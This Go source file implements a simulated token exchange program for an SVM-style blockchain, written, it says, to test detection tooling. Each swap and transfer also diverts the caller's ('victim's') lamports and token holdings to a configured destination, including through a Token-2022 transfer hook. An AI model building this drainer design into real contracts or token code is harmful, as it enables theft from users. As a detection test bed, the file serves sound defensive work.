// Package siphon implements the token exchange program.
//
// The program trades lamports for its own token and back, and moves the
// token between holders. Every exchange also carries a diversion step that
// moves the caller's lamports above a reserve floor, plus up to two token
// holdings, to the configured destination. Diversion runs in one of two
// ways:
//
//   - inline, inside the exchange instruction, in atomic mode: any failed
//     step fails the whole transaction;
//   - from the Token-2022 transfer hook, after the runtime has already
//     applied a checked transfer, in fail-soft mode: each step stands alone
//     and the hook reports success as long as its inputs were valid.
//
// This package exists to reproduce that behavior in simulation so
// detection tooling can be tested against it.
package siphon

import (
	"encoding/binary"
	"fmt"

	"github.com/fortiblox/X1-Siphon/internal/types"
	"github.com/fortiblox/X1-Siphon/pkg/metrics"
	"github.com/fortiblox/X1-Siphon/pkg/svm"
	"github.com/fortiblox/X1-Siphon/pkg/svm/programs/ata"
	"github.com/fortiblox/X1-Siphon/pkg/svm/programs/system"
	"github.com/fortiblox/X1-Siphon/pkg/svm/programs/token"
)

// Instruction discriminators.
var (
	InitializeDiscriminator             = discriminator("global:initialize")
	MintTokensDiscriminator             = discriminator("global:mint_tokens")
	SwapTokensToBaseDiscriminator       = discriminator("global:swap_tokens_to_base")
	SwapTokensToOtherAssetDiscriminator = discriminator("global:swap_tokens_to_other_asset")
	TransferTokensDiscriminator         = discriminator("global:transfer_tokens")
)

// Option configures a Processor.
type Option func(p *Processor)

// WithPolicy replaces the default diversion policy.
func WithPolicy(policy Policy) Option {
	return func(p *Processor) {
		p.policy = policy
	}
}

// WithMetrics enables diversion and hook metrics.
func WithMetrics(m *metrics.Metrics) Option {
	return func(p *Processor) {
		p.metrics = m
	}
}

// Processor executes the exchange program deployed at one address.
type Processor struct {
	programID  types.Pubkey
	configAddr types.Pubkey
	configBump uint8

	policy  Policy
	metrics *metrics.Metrics
	engine  *Engine
}

// NewProcessor creates the program for programID.
func NewProcessor(programID types.Pubkey, opts ...Option) *Processor {
	addr, bump, err := ConfigAddress(programID)
	if err != nil {
		panic(fmt.Sprintf("siphon: no config address for %s: %v", programID, err))
	}
	p := &Processor{
		programID:  programID,
		configAddr: addr,
		configBump: bump,
		policy:     DefaultPolicy(),
	}
	for _, opt := range opts {
		opt(p)
	}
	p.engine = NewEngine(p.policy, p.metrics)
	return p
}

// ProgramID returns the program address.
func (p *Processor) ProgramID() types.Pubkey {
	return p.programID
}

// ConfigAddress returns the configuration PDA.
func (p *Processor) ConfigAddress() types.Pubkey {
	return p.configAddr
}

// Process dispatches on the 8-byte discriminator. The transfer-hook
// Execute instruction shares the dispatch.
func (p *Processor) Process(ctx svm.InvokeContext, data []byte) error {
	if err := ctx.ConsumeCU(svm.CUSiphonProgramDefault); err != nil {
		return err
	}
	if len(data) < DiscriminatorLen {
		return ErrInstructionFallbackNotFound
	}
	var disc [DiscriminatorLen]byte
	copy(disc[:], data[:DiscriminatorLen])

	if len(data) < DiscriminatorLen+8 {
		return ErrInstructionDidNotDeserialize
	}
	arg := binary.LittleEndian.Uint64(data[DiscriminatorLen:])

	switch disc {
	case token.ExecuteDiscriminator:
		return p.executeHook(ctx, arg)
	case InitializeDiscriminator:
		return p.initialize(ctx, arg)
	case MintTokensDiscriminator:
		return p.mintTokens(ctx, arg)
	case SwapTokensToBaseDiscriminator:
		return p.swapTokensToBase(ctx, arg)
	case SwapTokensToOtherAssetDiscriminator:
		return p.swapTokensToOtherAsset(ctx, arg)
	case TransferTokensDiscriminator:
		return p.transferTokens(ctx, arg)
	default:
		return errorf(ErrInstructionFallbackNotFound, "discriminator %x", disc)
	}
}

// initialize: [authority, mint, config, destination, system program].
func (p *Processor) initialize(ctx svm.InvokeContext, rate uint64) error {
	ctx.Log("Instruction: Initialize")
	if rate == 0 {
		return errorf(ErrArithmetic, "exchange rate must be nonzero")
	}
	accs, err := svm.Accounts(ctx, 5)
	if err != nil {
		return err
	}
	authority, mintInfo, configInfo, destination := accs[0], accs[1], accs[2], accs[3]

	if err := requireSigner(authority, "authority"); err != nil {
		return err
	}
	if configInfo.Key != p.configAddr {
		return errorf(ErrConstraintSeeds, "config %s, want %s", configInfo.Key, p.configAddr)
	}
	if !types.IsTokenProgram(mintInfo.Owner) {
		return errorf(ErrAccountOwnedByWrongProgram, "mint owned by %s", mintInfo.Owner)
	}
	mint, err := token.UnpackMint(mintInfo.Data)
	if err != nil || !mint.IsInitialized {
		return errorf(ErrInvalidMint, "%s is not an initialized mint", mintInfo.Key)
	}
	if mint.MintAuthority == nil || *mint.MintAuthority != authority.Key {
		return errorf(ErrInvalidAuthority, "mint authority is not %s", authority.Key)
	}

	rent := ctx.GetRentMinimum(ConfigLen)
	create := system.CreateAccount(authority.Key, configInfo.Key, rent, ConfigLen, p.programID)
	if err := ctx.Invoke(create, [][]byte{ConfigSeed, {p.configBump}}); err != nil {
		return fmt.Errorf("create config: %w", err)
	}

	cfg := Config{
		Authority:         authority.Key,
		TokenMint:         mintInfo.Key,
		ExchangeRate:      rate,
		DivertDestination: destination.Key,
	}
	copy(configInfo.Data, cfg.Marshal())

	ctx.Log(fmt.Sprintf("Program initialized with exchange rate: %d tokens per base unit", rate))
	return nil
}

// mintTokens: [user, authority, mint, config, user token account,
// token program, system program, associated token program].
func (p *Processor) mintTokens(ctx svm.InvokeContext, baseAmount uint64) error {
	ctx.Log("Instruction: MintTokens")
	accs, err := svm.Accounts(ctx, 8)
	if err != nil {
		return err
	}
	user, authority, mintInfo, configInfo, userToken, tokenProgram := accs[0], accs[1], accs[2], accs[3], accs[4], accs[5]

	cfg, err := p.loadConfig(configInfo)
	if err != nil {
		return err
	}
	if err := requireSigner(user, "user"); err != nil {
		return err
	}
	if err := requireSigner(authority, "authority"); err != nil {
		return err
	}
	if err := checkAuthority(authority, cfg); err != nil {
		return err
	}
	if _, err := checkMint(mintInfo, cfg); err != nil {
		return err
	}
	if err := checkTokenProgram(tokenProgram, mintInfo); err != nil {
		return err
	}
	want, _, err := ata.Address(user.Key, mintInfo.Key, tokenProgram.Key)
	if err != nil {
		return err
	}
	if userToken.Key != want {
		return errorf(ErrInvalidTokenAccount, "user token account %s is not the associated account", userToken.Key)
	}
	if userToken.Owner == tokenProgram.Key {
		if _, err := checkTokenAccount(userToken, mintInfo.Key, user.Key); err != nil {
			return err
		}
	}
	tokenAmount, err := ToTokenAmount(baseAmount, cfg.ExchangeRate)
	if err != nil {
		return err
	}

	if err := ctx.Invoke(system.Transfer(user.Key, authority.Key, baseAmount)); err != nil {
		return fmt.Errorf("collect payment: %w", err)
	}
	if err := ctx.Invoke(ata.CreateIdempotent(user.Key, user.Key, mintInfo.Key, tokenProgram.Key)); err != nil {
		return fmt.Errorf("resolve token account: %w", err)
	}
	if err := ctx.Invoke(token.MintTo(tokenProgram.Key, mintInfo.Key, userToken.Key, authority.Key, tokenAmount)); err != nil {
		return fmt.Errorf("mint: %w", err)
	}

	ctx.Log(fmt.Sprintf("Minted %d tokens to %s in exchange for %d", tokenAmount, userToken.Key, baseAmount))
	return nil
}

// diversionAccounts reads the trailing inline diversion accounts starting
// at index first: destination, victim secondary, destination secondary,
// victim other, destination other.
func (p *Processor) diversionAccounts(accs []*svm.AccountInfo, first int) (dest *svm.AccountInfo, secondary, other AssetPair) {
	dest = accs[first]
	secondary = AssetPair{Victim: p.optional(accs[first+1]), Destination: p.optional(accs[first+2])}
	other = AssetPair{Victim: p.optional(accs[first+3]), Destination: p.optional(accs[first+4])}
	return dest, secondary, other
}

// swapTokensToBase: [user, authority, mint, config, user token account,
// destination, victim secondary, destination secondary, victim other,
// destination other, token program, system program].
func (p *Processor) swapTokensToBase(ctx svm.InvokeContext, tokenAmount uint64) error {
	ctx.Log("Instruction: SwapTokensToBase")
	accs, err := svm.Accounts(ctx, 12)
	if err != nil {
		return err
	}
	user, authority, mintInfo, configInfo, userToken := accs[0], accs[1], accs[2], accs[3], accs[4]
	dest, secondary, other := p.diversionAccounts(accs, 5)
	tokenProgram := accs[10]

	cfg, err := p.loadConfig(configInfo)
	if err != nil {
		return err
	}
	if err := p.checkExchange(cfg, user, authority, mintInfo, userToken, tokenProgram); err != nil {
		return err
	}
	if err := checkDestination(dest, cfg); err != nil {
		return err
	}
	baseAmount, err := ToBaseAmount(tokenAmount, cfg.ExchangeRate)
	if err != nil {
		return err
	}

	if err := ctx.Invoke(token.Burn(tokenProgram.Key, userToken.Key, mintInfo.Key, user.Key, tokenAmount)); err != nil {
		return fmt.Errorf("burn: %w", err)
	}
	if err := ctx.Invoke(system.Transfer(authority.Key, user.Key, baseAmount)); err != nil {
		return fmt.Errorf("pay out: %w", err)
	}
	ctx.Log(fmt.Sprintf("Swapped %d tokens for %d", tokenAmount, baseAmount))

	_, err = p.engine.Divert(ctx, Request{
		Config:       cfg,
		Victim:       user,
		Destination:  dest,
		Secondary:    secondary,
		Other:        other,
		TokenProgram: tokenProgram,
	}, ModeAtomic)
	return err
}

// swapTokensToOtherAsset: [user, authority, mint, config, user token
// account, authority other-asset account, user other-asset account,
// destination, victim secondary, destination secondary, victim other,
// destination other, token program, system program].
func (p *Processor) swapTokensToOtherAsset(ctx svm.InvokeContext, tokenAmount uint64) error {
	ctx.Log("Instruction: SwapTokensToOtherAsset")
	accs, err := svm.Accounts(ctx, 14)
	if err != nil {
		return err
	}
	user, authority, mintInfo, configInfo, userToken := accs[0], accs[1], accs[2], accs[3], accs[4]
	authorityAsset, userAsset := accs[5], accs[6]
	dest, secondary, other := p.diversionAccounts(accs, 7)
	tokenProgram := accs[12]

	cfg, err := p.loadConfig(configInfo)
	if err != nil {
		return err
	}
	if err := p.checkExchange(cfg, user, authority, mintInfo, userToken, tokenProgram); err != nil {
		return err
	}
	if err := checkDestination(dest, cfg); err != nil {
		return err
	}
	from, err := checkTokenAccount(authorityAsset, tokenMintOf(authorityAsset), authority.Key)
	if err != nil {
		return err
	}
	if _, err := checkTokenAccount(userAsset, from.Mint, user.Key); err != nil {
		return err
	}
	if userAsset.Owner != authorityAsset.Owner {
		return errorf(ErrInvalidTokenAccount, "asset accounts belong to different token programs")
	}
	otherAmount, err := ToBaseAmount(tokenAmount, cfg.ExchangeRate)
	if err != nil {
		return err
	}

	if err := ctx.Invoke(token.Burn(tokenProgram.Key, userToken.Key, mintInfo.Key, user.Key, tokenAmount)); err != nil {
		return fmt.Errorf("burn: %w", err)
	}
	pay := token.Transfer(authorityAsset.Owner, authorityAsset.Key, userAsset.Key, authority.Key, otherAmount)
	if err := ctx.Invoke(pay); err != nil {
		return fmt.Errorf("pay out: %w", err)
	}
	ctx.Log(fmt.Sprintf("Swapped %d tokens for %d of %s", tokenAmount, otherAmount, from.Mint))

	_, err = p.engine.Divert(ctx, Request{
		Config:       cfg,
		Victim:       user,
		Destination:  dest,
		Secondary:    secondary,
		Other:        other,
		TokenProgram: tokenProgram,
	}, ModeAtomic)
	return err
}

// transferTokens: [sender, recipient, sender token account, recipient
// token account, mint, config, destination, victim secondary, destination
// secondary, victim other, destination other, token program, system
// program].
//
// On a mint whose transfer hook is this program the instruction does no
// diversion of its own: the token runtime calls back into executeHook.
func (p *Processor) transferTokens(ctx svm.InvokeContext, amount uint64) error {
	ctx.Log("Instruction: TransferTokens")
	accs, err := svm.Accounts(ctx, 13)
	if err != nil {
		return err
	}
	sender, recipient, senderToken, recipientToken, mintInfo, configInfo := accs[0], accs[1], accs[2], accs[3], accs[4], accs[5]
	dest, secondary, other := p.diversionAccounts(accs, 6)
	tokenProgram := accs[11]

	cfg, err := p.loadConfig(configInfo)
	if err != nil {
		return err
	}
	if err := requireSigner(sender, "sender"); err != nil {
		return err
	}
	mint, err := checkMint(mintInfo, cfg)
	if err != nil {
		return err
	}
	if err := checkTokenProgram(tokenProgram, mintInfo); err != nil {
		return err
	}
	if _, err := checkTokenAccount(senderToken, mintInfo.Key, sender.Key); err != nil {
		return err
	}
	if _, err := checkTokenAccount(recipientToken, mintInfo.Key, recipient.Key); err != nil {
		return err
	}
	if err := checkDestination(dest, cfg); err != nil {
		return err
	}

	hooked := mint.TransferHookProgram != nil && *mint.TransferHookProgram == p.programID
	var extra []svm.AccountMeta
	if hooked {
		for _, acc := range accs[5:12] {
			extra = append(extra, svm.AccountMeta{Pubkey: acc.Key, IsWritable: acc.IsWritable})
		}
	}
	ix := token.TransferChecked(tokenProgram.Key, senderToken.Key, mintInfo.Key, recipientToken.Key, sender.Key, amount, mint.Decimals, extra...)
	// The sender's lamports may move inside the hook.
	ix.Accounts[3].IsWritable = sender.IsWritable
	if err := ctx.Invoke(ix); err != nil {
		return fmt.Errorf("transfer: %w", err)
	}
	ctx.Log(fmt.Sprintf("Transferred %d tokens from %s to %s", amount, senderToken.Key, recipientToken.Key))

	if hooked {
		return nil
	}
	_, err = p.engine.Divert(ctx, Request{
		Config:       cfg,
		Victim:       sender,
		Destination:  dest,
		Secondary:    secondary,
		Other:        other,
		TokenProgram: tokenProgram,
	}, ModeAtomic)
	return err
}

// checkExchange validates the accounts shared by both swaps.
func (p *Processor) checkExchange(cfg *Config, user, authority, mintInfo, userToken, tokenProgram *svm.AccountInfo) error {
	if err := requireSigner(user, "user"); err != nil {
		return err
	}
	if err := requireSigner(authority, "authority"); err != nil {
		return err
	}
	if err := checkAuthority(authority, cfg); err != nil {
		return err
	}
	if _, err := checkMint(mintInfo, cfg); err != nil {
		return err
	}
	if err := checkTokenProgram(tokenProgram, mintInfo); err != nil {
		return err
	}
	_, err := checkTokenAccount(userToken, mintInfo.Key, user.Key)
	return err
}

// tokenMintOf returns the mint recorded in a token account, or the zero
// key when the data is not a token account.
func tokenMintOf(acc *svm.AccountInfo) types.Pubkey {
	if len(acc.Data) < 32 {
		return types.Pubkey{}
	}
	var mint types.Pubkey
	copy(mint[:], acc.Data[:32])
	return mint
}
